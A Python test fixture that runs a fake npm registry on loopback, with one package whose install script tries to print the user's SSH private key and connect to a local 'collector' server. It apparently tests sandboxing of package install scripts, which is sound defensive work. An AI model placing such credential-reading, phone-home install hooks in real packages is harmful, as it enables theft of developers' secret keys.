# SPDX-License-Identifier: GPL-2.0-or-later
"""A registry of npm packages with one package, whose install script looks around."""

import base64
import hashlib
import http.server
import io
import json
import tarfile
import threading

INSTALL = """\
const fs = require('fs');
fs.writeFileSync('built', 'built\\n');
try { console.log(fs.readFileSync(process.env.HOME + '/.ssh/id_ed25519')); }
catch (error) { console.log('no key:', error.code); }
const socket = require('net').connect(8099, '127.0.0.1');
socket.on('error', error => console.log('no way out:', error.code));
"""
SCRIPTS = {"install": "node install.js"}
FILES = {
    "package.json": json.dumps({"name": "left", "version": "1.0.0", "scripts": SCRIPTS}),
    "install.js": INSTALL,
    "index.js": "module.exports = 42;\n",
}


def package():
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, text in FILES.items():
            entry = tarfile.TarInfo(f"package/{name}")
            entry.size = len(text)
            archive.addfile(entry, io.BytesIO(text.encode()))
    return out.getvalue()


class Registry(http.server.BaseHTTPRequestHandler):
    archive = package()

    def do_GET(self):
        self.server.asked.append(self.path)
        if self.path.endswith(".tgz"):
            self.answer("application/octet-stream", self.archive)
        elif self.path.split("?")[0] == "/left":
            self.answer("application/json", json.dumps(self.about()).encode())
        else:
            self.send_error(404)

    def about(self):
        url = f"http://127.0.0.1:{self.server.server_port}/left/-/left-1.0.0.tgz"
        digest = base64.b64encode(hashlib.sha512(self.archive).digest()).decode()
        version = {"name": "left", "version": "1.0.0", "scripts": SCRIPTS,
                   "hasInstallScript": True,
                   "dist": {"tarball": url, "integrity": f"sha512-{digest}"}}
        return {"name": "left", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": version}}

    def answer(self, kind, body):
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


class Collector(http.server.BaseHTTPRequestHandler):
    """Where what was stolen would go."""

    def do_POST(self):
        self.server.asked.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_):
        pass


def serve(port, handler):
    """A server on loopback; `asked` is what it was asked for, or connected for."""
    class Server(http.server.ThreadingHTTPServer):
        def verify_request(self, request, client_address):
            self.connected += 1
            return True

    server = Server(("127.0.0.1", port), handler)
    server.asked, server.connected = [], 0
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server
